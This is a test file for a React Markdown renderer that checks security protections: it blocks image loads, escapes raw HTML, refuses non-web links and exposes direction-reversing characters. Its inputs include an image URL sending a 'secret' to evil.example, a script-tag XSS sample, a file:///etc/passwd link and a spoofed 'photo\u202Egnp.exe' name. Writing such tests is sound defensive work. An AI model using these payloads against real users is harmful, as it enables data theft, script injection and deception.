import { screen, waitFor } from "@testing-library/react";
import { expect, it, vi } from "vitest";
import { quickBackend, renderPage } from "../testing/render";
import { Markdown } from "./markdown";

it("never loads a picture: its address could carry something away", () => {
  const { container } = renderPage(<Markdown text="![the notes](https://evil.example/?q=secret)" />);
  expect(container.querySelector("img")).toBeNull();
  expect(screen.getByText("the notes")).toBeTruthy();
});

it("shows raw HTML as text", () => {
  const { container } = renderPage(<Markdown text={'<script>alert(1)</script>\n\n<b onclick="x">bold</b>'} />);
  expect(container.querySelector("script")).toBeNull();
  expect(container.querySelector("b")).toBeNull();
});

it("opens web links outside, and no others", async () => {
  const openURL = vi.fn(() => Promise.resolve());
  const { user } = renderPage(<Markdown text="[web](https://docs.example.com) [file](file:///etc/passwd)" />, { ...quickBackend(), openURL });
  await user.click(screen.getByText("file"));
  await user.click(screen.getByText("web"));
  await waitFor(() => expect(openURL.mock.calls).toEqual([["https://docs.example.com"]]));
});

it("makes code that can be copied, and tables", () => {
  renderPage(<Markdown text={"```sh\nls -l\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"} />);
  expect(screen.getByLabelText("Code").textContent).toBe("ls -l\n");
  expect(screen.getByRole("table").textContent).toBe("ab12");
});

it("shows characters that would turn a name around", () => {
  const { container } = renderPage(<Markdown text={"Open **photo\u202Egnp.exe** and 👩\u200D💻."} />);
  expect(container.textContent).toBe("Open photoU+202Egnp.exe and 👩\u200D💻.");
  expect(screen.getByText("U+202E").tagName).toBe("MARK");
});

it("aligns the columns of a table as it says", () => {
  renderPage(<Markdown text={"| a | b |\n|---|--:|\n| 1 | 2 |"} />);
  expect(screen.getByText("2").style.textAlign).toBe("right");
  expect(screen.getByText("b").style.textAlign).toBe("right");
});

it("goes to a footnote of the same text, and makes no link of what leads nowhere", async () => {
  const { user, container } = renderPage(<Markdown text={"See[^1] and [the plan](docs/plan.md) ![chart](chart.png)\n\n[^1]: Measured."} />);
  const seen: Element[] = [];
  for (const place of container.querySelectorAll("[id]")) place.scrollIntoView = () => seen.push(place);
  await user.click(screen.getByRole("link", { name: "1" }));
  expect(seen[0]?.textContent).toContain("Measured.");
  expect(screen.queryByRole("link", { name: /plan/ })).toBeNull();
  expect(container.textContent).toContain("the plan docs/plan.md");
  expect(container.textContent).toContain("chart chart.png");
});
